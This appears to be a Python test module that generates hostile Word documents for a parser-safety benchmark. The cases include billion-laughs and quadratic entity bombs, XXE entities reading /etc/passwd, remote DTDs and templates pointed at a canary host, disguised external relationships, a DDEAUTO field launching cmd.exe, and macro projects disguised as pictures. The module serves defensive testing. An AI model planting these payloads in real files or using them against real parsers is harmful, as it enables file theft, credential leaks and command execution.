"""Docx files that reach out: entities, links to other places, templates, macros."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.bench.hostile.case import Case, essay
from tests.bench.hostile.docx_bombs import PARAGRAPH
from tests.portal.files import corpus

WORD_MAIN = f"{corpus.WORD}.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "哈">' for n in range(10)
)
QUADRATIC = '<!ENTITY a "{}">'.format("a" * 50_000)


def cases(canary: str) -> Iterator[Case]:
    """Yield the ones that reach out."""
    yield from declared(canary)
    yield from linked(canary)
    yield from with_macros()


def declared(canary: str) -> Iterator[Case]:
    """Yield documents with a DOCTYPE, in every way XML allows to write one."""
    doctypes = {
        "empty": "<!DOCTYPE x []>",
        "billion laughs": f"<!DOCTYPE x [{LAUGHS}]>",
        "quadratic": f"<!DOCTYPE x [{QUADRATIC}]>",
        "dev zero": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///dev/zero">]>',
        "passwd": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "network": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/e">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}/p"> %p;]>',
        "remote DTD": f'<!DOCTYPE x SYSTEM "{canary}/x.dtd">',
    }
    used = "<w:p><w:r><w:t>&e;&l9;&a;</w:t></w:r></w:p>"
    for name, doctype in doctypes.items():
        yield essay(f"docx/entity/{name}", partial(corpus.docx, used, prolog=doctype), "entities")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
        make = partial(in_encoding, encoding, doctypes["dev zero"])
        quick = encoding == "utf-16-be"
        yield essay(f"docx/entity/in {encoding}", make, "entities", quick=quick)
    for encoding in ("utf-7", "utf-32", "utf-32-be", "cp037"):
        make = partial(in_encoding, encoding, doctypes["dev zero"])
        yield essay(f"docx/entity/in {encoding}", make, "package_unsafe", quick=encoding == "utf-7")
    for part in ("word/styles.xml", "customXml/item1.xml", "docProps/core.xml", "word/a.vml"):
        content = f'<?xml version="1.0"?>{doctypes["network"]}<x>&e;</x>'
        yield essay(
            f"docx/entity/in {part}", partial(corpus.docx, parts={part: content}), "entities"
        )
    late = " " * 300_000 + doctypes["network"]
    yield essay("docx/entity/far from the start", partial(corpus.docx, prolog=late), "entities")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}/i"/>'
    yield essay("docx/entity/xinclude is left alone", partial(corpus.docx, include + PARAGRAPH))
    sheet = f'<?xml-stylesheet href="{canary}/s.xsl" type="text/xsl"?>'
    yield essay("docx/entity/stylesheet is left alone", partial(corpus.docx, prolog=sheet))


def in_encoding(encoding: str, doctype: str) -> bytes:
    """Return a docx whose main part is written in another encoding."""
    declared_as = {"cp037": "IBM037"}.get(encoding, encoding[:6].upper())
    text = (
        f'<?xml version="1.0" encoding="{declared_as}"?>{doctype}<w:document xmlns:w="{corpus.W}">'
    )
    text += "<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
    written = text.encode(encoding)
    if encoding == "utf-7":  # the codec leaves < and ! alone, an attacker does not
        written = written.replace(b"<!", b"+ADwAIQ-")
    return corpus.docx(parts={"word/document.xml": written})


def linked(canary: str) -> Iterator[Case]:
    """Yield relationships to other places; those of a hyperlink and a local template are fine."""
    for kind in (
        "oleObject",
        "frame",
        "aFChunk",
        "image",
        "subDocument",
        "attachedTemplate",
        "video",
    ):
        relation = corpus.relation(kind, f"{canary}/{kind}", external=True)
        make = partial(corpus.docx, relations=relation)
        yield essay(f"docx/link/{kind}", make, "external_links", quick=kind == "aFChunk")
    address = canary.removeprefix("http://")
    for name, target in {
        "UNC template": f"\\\\{address}\\share\\t.dotm",
        "file UNC template": f"file://{address}/share/t.dotm",
        "file UNC template with five slashes": f"file://///{address}/share/t.dotm",
        "mhtml template": f"mhtml:{canary}/t.dotm",
    }.items():
        relation = corpus.relation("attachedTemplate", target, external=True)
        rels = f'<Relationships xmlns="{corpus.RELS}">{relation}</Relationships>'
        make = partial(corpus.docx, parts={"word/_rels/settings.xml.rels": rels})
        yield essay(f"docx/link/{name}", make, "external_links", quick=name == "UNC template")
    yield from disguised(canary)
    hyperlink = corpus.relation("hyperlink", f"{canary}/read-me", external=True)
    yield essay("docx/link/hyperlink", partial(corpus.docx, relations=hyperlink))
    for target in ("file:///C:\\Users\\王\\Normal.dotm", "C:\\公文.dotm", "file:///D%3A%5Ct.dotm"):
        local = corpus.relation("attachedTemplate", target, external=True)
        rels = f'<Relationships xmlns="{corpus.RELS}">{local}</Relationships>'
        make = partial(corpus.docx, parts={"word/_rels/settings.xml.rels": rels})
        yield essay(f"docx/link/local template {target}", make)


def disguised(canary: str) -> Iterator[Case]:
    """Yield links that hide behind an unusual way of writing."""
    plain = corpus.relation("image", f"{canary}/x.png", external=True)
    ways = {
        "in single quotes": plain.replace('"', "'"),
        "mode in small letters": plain.replace('"External"', '"external"'),
        "mode with a space": plain.replace('"External"', '" External "'),
        "mode by reference": plain.replace('"External"', '"&#69;xternal"'),
        "without a mode": plain.replace(' TargetMode="External"', ""),
        "network path without a mode": corpus.relation("image", f"//{canary[7:]}/x.png"),
        "inside another element": f"<x>{plain}</x>",
    }
    for name, relation in ways.items():
        make = partial(corpus.docx, relations=relation)
        quick = name in {"without a mode", "inside another element", "mode by reference"}
        yield essay(f"docx/link/{name}", make, "external_links", quick=quick)
    wide = f'<Relationships xmlns="{corpus.RELS}">{plain}</Relationships>'.encode("utf-16")
    make = partial(corpus.docx, parts={"word/_rels/header1.xml.rels": wide})
    yield essay("docx/link/in utf-16", make, "external_links", quick=True)
    field = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>" + PARAGRAPH
    dde = field.format(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
    yield essay("docx/link/DDE field", partial(corpus.docx, dde), "external_links", quick=True)
    simple = f'<w:p><w:fldSimple w:instr=" DDE cmd x y "/></w:p>{PARAGRAPH}'
    yield essay("docx/link/simple DDE field", partial(corpus.docx, simple), "external_links")
    pasted = field.format(f' INCLUDEPICTURE "{canary}/w.png" \\* MERGEFORMATINET ')
    yield essay("docx/link/picture field pasted from a page", partial(corpus.docx, pasted))


def with_macros() -> Iterator[Case]:
    """Yield macros under their own name and under others."""
    yield essay(
        "docx/macro/vbaProject.bin",
        partial(corpus.docx, parts={"word/vbaProject.bin": b"x"}),
        "macros",
    )
    yield essay(
        "docx/macro/in capitals",
        partial(corpus.docx, parts={"word/VBAPROJECT.BIN": b"x"}),
        "macros",
    )
    yield essay(
        "docx/macro/docm renamed",
        partial(corpus.docx, main_type=MACRO_MAIN, parts={"word/vbaProject.bin": b"x"}),
        "macros",
    )
    yield essay("docx/macro/macro main type", partial(corpus.docx, main_type=MACRO_MAIN), "macros")
    yield essay("docx/macro/declared as a picture", macro_as_picture, "macros", quick=True)
    yield essay("docx/macro/related as a picture", related_macro, "macros", quick=True)
    yield essay(
        "docx/macro/template",
        partial(
            corpus.docx, main_type="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
        ),
        "macros",
    )


def macro_as_picture() -> bytes:
    """Return a docx that declares a macro project under the name of a picture."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{WORD_MAIN}"/>'
        f'<Override PartName="/word/media/image1.png" ContentType="{VBA}"/></Types>'
    )
    return corpus.docx(parts={"[Content_Types].xml": types, "word/media/image1.png": b"x"})


def related_macro() -> bytes:
    """Return a docx that relates to a macro project under the name of a picture."""
    relation = (
        '<Relationship Id="v" Target="media/image1.png" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    )
    return corpus.docx(relations=relation, parts={"word/media/image1.png": b"x"})
